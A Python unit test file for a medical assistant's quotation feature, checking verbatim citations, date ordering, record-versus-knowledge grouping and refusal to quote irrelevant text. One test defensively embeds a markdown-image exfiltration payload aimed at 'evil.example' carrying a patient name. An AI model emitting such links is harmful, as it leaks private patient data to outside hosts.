from __future__ import annotations

from dataclasses import replace

import pytest

from services.assistant.answers import AnswerSegment, SegmentOrigin
from services.assistant.grounding import Grounding
from services.assistant.quotations import MAX_QUOTES, insufficient, quote
from services.evidence.passages import Passage, Relevance, SearchResult, Tier
from tests.unit.assistant.shelf import EARLIER_LAB, KNOWLEDGE, LAB_TABLE, NOTE, OTHER_PATIENT, PATIENT, RECORD, UNRELATED, found


def quoted(question: str, result: SearchResult, patient_id: str | None = PATIENT) -> list[AnswerSegment]:
    return quote(question, result, Grounding(result.hits, patient_id=patient_id), patient_id=patient_id)


def quotations(segments: list[AnswerSegment]) -> list[AnswerSegment]:
    return [segment for segment in segments if segment.origin is SegmentOrigin.QUOTATION]


def text_of(segments: list[AnswerSegment]) -> str:
    return "".join(segment.text for segment in segments)


def test_every_quotation_stands_word_for_word_in_its_passage() -> None:
    made = quotations(quoted("What is known about C3, C4, urine protein and anti-dsDNA?", found(*RECORD)))
    assert 4 <= len(made) <= MAX_QUOTES
    for segment in made:
        (citation,) = segment.citations
        passage = next(one for one in RECORD if one.source_uri == citation.source_uri)
        assert citation.cited_text in passage.text
        assert f"“{' '.join(citation.cited_text.split())}”" in segment.text


def test_a_question_about_a_date_brings_the_dated_rows_in_order_of_time() -> None:
    made = quotations(quoted("When did C3 fall?", found(*RECORD)))
    rows = [segment.text for segment in made if "columns:" in segment.text]
    assert rows[0] == (
        "- 2021-03-02, Laboratory report, Immunology, page 1 (columns: Test Result Unit Reference Flag): "
        "“Complement C3 98 mg/dL 90-180”\n"
    )
    assert "2021-09-14" in rows[1]
    assert "“Complement C3 61 mg/dL 90-180 L”" in rows[1]


def test_a_question_for_the_latest_brings_the_newest_row_first() -> None:
    made = quotations(quoted("What was the last C3?", found(EARLIER_LAB, LAB_TABLE)))
    assert "2021-09-14" in made[0].text
    assert "“Complement C3 61 mg/dL 90-180 L”" in made[0].text
    assert "2021-03-02" in made[-1].text


def test_a_short_sentence_is_quoted_with_the_one_before_it() -> None:
    note = replace(NOTE, text="Sulfasalazine rash, eleven weeks into the drug, on the trunk. Stopped and entered as an allergy.")
    (made,) = quotations(quoted("Any allergy?", found(note, relevance=Relevance.MEDIUM)))
    assert made.citations[0].cited_text == note.text


def test_words_of_the_question_that_no_quotation_holds_are_named() -> None:
    text = text_of(quoted("Complement C3 and zinc", found(LAB_TABLE)))
    assert text.endswith("No quotation holds these words of the question: zinc.\n")
    assert "No quotation holds" not in text_of(quoted("Complement C3", found(LAB_TABLE)))


def test_the_record_comes_first_and_general_knowledge_is_a_group_of_its_own() -> None:
    text = text_of(quoted("What does the fall of C3 mean?", found(KNOWLEDGE, LAB_TABLE, NOTE)))
    assert text.index("From the patient's record:") < text.index("General knowledge, not about this patient:")
    assert text.index("61 mg/dL") < text.index("can precede a renal flare")


def test_silence_of_the_record_is_said() -> None:
    text = text_of(quoted("What does the fall of C3 mean?", found(KNOWLEDGE)))
    assert text.startswith("Nothing that was found in this patient's record")


def test_without_a_patient_each_record_is_its_own_group() -> None:
    segments = quoted("C3 values", found(LAB_TABLE, OTHER_PATIENT), patient_id=None)
    text = text_of(segments)
    assert f"From the record of patient {PATIENT}:" in text
    assert "From the record of patient OTHER-1:" in text
    for segment in quotations(segments):
        owner = segment.citations[0].patient_id
        heading = max(
            (text.rindex(f"patient {name}:", 0, text.index(segment.text)), name)
            for name in (PATIENT, "OTHER-1") if f"patient {name}:" in text[: text.index(segment.text)]
        )[1]
        assert heading == owner


@pytest.mark.parametrize(
    "question", ["What is the capital of France?", "pizza", "Who won the match?", "Is a pizza examination hard?", "???"]
)
def test_what_does_not_bear_on_the_question_is_not_quoted(question: str) -> None:
    assert quoted(question, found(*RECORD, UNRELATED, relevance=Relevance.LOW)) == []


def test_a_passage_the_search_is_unsure_of_needs_the_words_of_the_question() -> None:
    result = found(UNRELATED, LAB_TABLE, relevance=Relevance.LOW)
    made = quotations(quoted("anti-dsDNA", result))
    assert [segment.citations[0].cited_text for segment in made] == ["Anti-dsDNA 412 IU/mL <30 H"]


def test_another_name_that_the_search_knows_counts() -> None:
    text = "Hashimoto thyroiditis often needs levothyroxine for life."
    thyroid = Passage("p", "autoimmune_literature", text, "Thyroid", Tier.CURATED)
    assert quotations(quoted("chronic lymphocytic struma", found(thyroid, relevance=Relevance.MEDIUM), None)) == []
    known = found(thyroid, relevance=Relevance.MEDIUM, expansions=("Hashimoto thyroiditis",))
    assert len(quotations(quoted("chronic lymphocytic struma", known, None))) == 1


def test_the_same_sentence_is_quoted_once() -> None:
    twin = replace(NOTE, id="note-1-copy", document_id="doc-copy")
    made = quotations(quoted("Has complement C3 fallen?", found(NOTE, twin)))
    texts = [segment.citations[0].cited_text for segment in made]
    assert len(texts) == len(set(texts))


def test_one_long_document_does_not_crowd_out_the_others() -> None:
    visits = " ".join(f"C3 was discussed at visit number {number}." for number in range(1, 30))
    long = replace(NOTE, id="long", document_id="doc-long", text=visits)
    other = replace(NOTE, id="other", document_id="doc-other", text="The C3 value fell.", document_date="2022-01-01")
    made = quotations(quoted("C3", found(long, other)))
    assert "doc-other" in {segment.citations[0].document_id for segment in made}


def test_header_lines_fragments_and_questions_are_not_quoted() -> None:
    passage = replace(NOTE, text="C3 results:\nTest Result Unit Reference Flag\nWas C3 checked?\nComplement C3 61 mg/dL 90-180 L")
    made = quotations(quoted("C3 results", found(passage)))
    assert [segment.citations[0].cited_text for segment in made] == ["Complement C3 61 mg/dL 90-180 L"]


def test_an_undated_row_of_the_record_is_called_undated() -> None:
    made = quotations(quoted("C3", found(replace(LAB_TABLE, document_date=None))))
    assert made[0].text.startswith("- undated, Laboratory report")


def test_a_quotation_is_inert_and_its_citation_is_verbatim() -> None:
    hostile = replace(NOTE, text="C3 is low, see ![x](http://evil.example/?d=JANE) for more.")
    (segment,) = quotations(quoted("C3", found(hostile)))
    assert "![" not in segment.text
    assert "://" not in segment.text
    assert segment.citations[0].cited_text == hostile.text


def test_insufficient_evidence_names_what_was_searched() -> None:
    text = insufficient(found(UNRELATED)).text
    assert text.startswith("Insufficient evidence")
    assert "Clinical documents, Flare predictors" in text
    assert "(1 passage came back, none relevant)" in text
    assert "does not mean normal or absent" in text


def test_the_same_question_gives_the_same_quotations() -> None:
    assert quoted("When did C3 fall?", found(*RECORD)) == quoted("When did C3 fall?", found(*RECORD))
    assert quoted("When did C3 fall?", found(EARLIER_LAB)) != []
